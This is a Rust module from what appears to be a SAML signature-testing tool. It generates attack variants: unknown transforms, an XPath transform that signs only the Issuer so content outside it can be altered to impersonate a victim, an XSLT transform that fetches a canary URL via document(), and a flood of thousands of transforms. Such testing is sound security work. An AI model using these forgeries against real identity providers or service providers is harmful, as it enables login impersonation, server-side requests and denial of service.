//! Transforms that SAML does not have (saml-core 5.4.4: enveloped signature and exclusive canonicalisation, nothing else).

use saml_model::names;

use super::super::forge::{Digested, Forge, transform};
use super::super::impostor::{impersonate, say_it_of_the_victim};
use super::super::tree::{Tree, escaped};
use super::super::{Action, FaultError, Inputs, Parameters};
use super::keys::attacker;
use super::{canary, choice, number, signed};

pub(in super::super) const ACTIONS: &[(&str, Action)] = &[
    ("sig-transform-flood", Action::Message(flood)),
    ("sig-transform-unknown", Action::Forge(unknown)),
    ("sig-transform-xpath", Action::Forge(xpath)),
    ("sig-transform-xpath", Action::Message(tamper_outside)),
    ("sig-transform-xslt", Action::Value(say_it_of_the_victim)),
    ("sig-transform-xslt", Action::Signing(attacker)),
    ("sig-transform-xslt", Action::Forge(xslt)),
];

/// xmldsig-core1 6.6.3.
const XPATH: &str = "http://www.w3.org/TR/1999/REC-xpath-19991116";
/// XML-Signature XPath Filter 2.0.
const XPATH_FILTER2: &str = "http://www.w3.org/2002/06/xmldsig-filter2";
/// xmldsig-core1 6.6.5.
const XSLT: &str = "http://www.w3.org/TR/1999/REC-xslt-19991116";

/// How many transforms a flood has, where nobody says otherwise, and at most.
const FLOOD: usize = 200;
const FLOOD_MAX: usize = 5000;

fn unknown(forge: &mut Forge, parameters: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    let uri = choice(
        parameters,
        "transform",
        &[
            ("unknown", "urn:example:unknown-transform"),
            ("base64", "http://www.w3.org/2000/09/xmldsig#base64"),
            ("decryption", "http://www.w3.org/2002/07/decrypt#XML"),
        ],
    )?;
    forge.transforms.push(transform(uri));
    Ok(())
}

/// The issuer alone is digested.
fn xpath(forge: &mut Forge, parameters: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    let is_issuer = "local-name()='Issuer' and parent::*[@ID='{id}']";
    let filters = [
        (
            "xpath",
            format!(
                "<Transform Algorithm=\"{XPATH}\"><XPath>ancestor-or-self::*[{is_issuer}]</XPath></Transform>"
            ),
        ),
        (
            "filter2",
            format!(
                "<Transform Algorithm=\"{XPATH_FILTER2}\"><XPath xmlns=\"{XPATH_FILTER2}\" Filter=\"intersect\">//*[{is_issuer}]</XPath></Transform>"
            ),
        ),
    ];
    let place = choice(parameters, "language", &[("xpath", 0), ("filter2", 1)])?;
    forge.transforms = vec![
        transform(names::TRANSFORM_ENVELOPED),
        filters[place].1.clone(),
        transform(names::C14N_EXCLUSIVE),
    ];
    forge.digested = Digested::Below(&["Issuer"]);
    Ok(())
}

fn tamper_outside(xml: &str, parameters: &Parameters, inputs: &Inputs<'_>) -> Result<String, FaultError> {
    let mut message = Tree::read(xml)?;
    impersonate(&mut message, parameters, inputs)?;
    Ok(message.write())
}

/// Whoever runs it before the signature is known to be good fetches a document for everybody.
fn xslt(forge: &mut Forge, parameters: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    let address = canary(parameters);
    let stylesheet = format!(
        "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\">\
         <xsl:template match=\"/\"><xsl:copy-of select=\"document('{address}')\"/></xsl:template></xsl:stylesheet>"
    );
    forge.transforms.insert(
        1,
        format!("<Transform Algorithm=\"{XSLT}\">{stylesheet}</Transform>"),
    );
    Ok(())
}

fn flood(xml: &str, parameters: &Parameters, _: &Inputs<'_>) -> Result<String, FaultError> {
    let count = number(parameters, "count", FLOOD, 1..=FLOOD_MAX)?;
    let one = Tree::new("Transform").with("Algorithm", &escaped(names::C14N_EXCLUSIVE));
    let mut message = Tree::read(xml)?;
    for path in signed(&message)? {
        let transforms = [path, &["Signature", "SignedInfo", "Reference", "Transforms"]].concat();
        let transforms = message.at_mut(&transforms)?;
        transforms.children.extend((0..count).map(|_| one.clone().into()));
    }
    Ok(message.write())
}
